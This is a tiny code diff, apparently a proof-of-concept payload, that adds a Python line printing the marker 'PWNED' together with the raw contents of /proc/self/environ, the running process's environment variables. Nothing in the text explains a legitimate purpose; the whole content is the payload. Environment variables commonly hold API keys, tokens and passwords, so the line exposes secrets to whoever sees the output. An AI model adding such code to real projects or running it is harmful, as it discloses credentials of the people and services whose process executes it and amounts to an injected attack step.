@@ -1,0 +1,2 @@
+# runtime: proc environ
+print("PWN" + "ED", open('/proc/self/environ', 'rb').read())
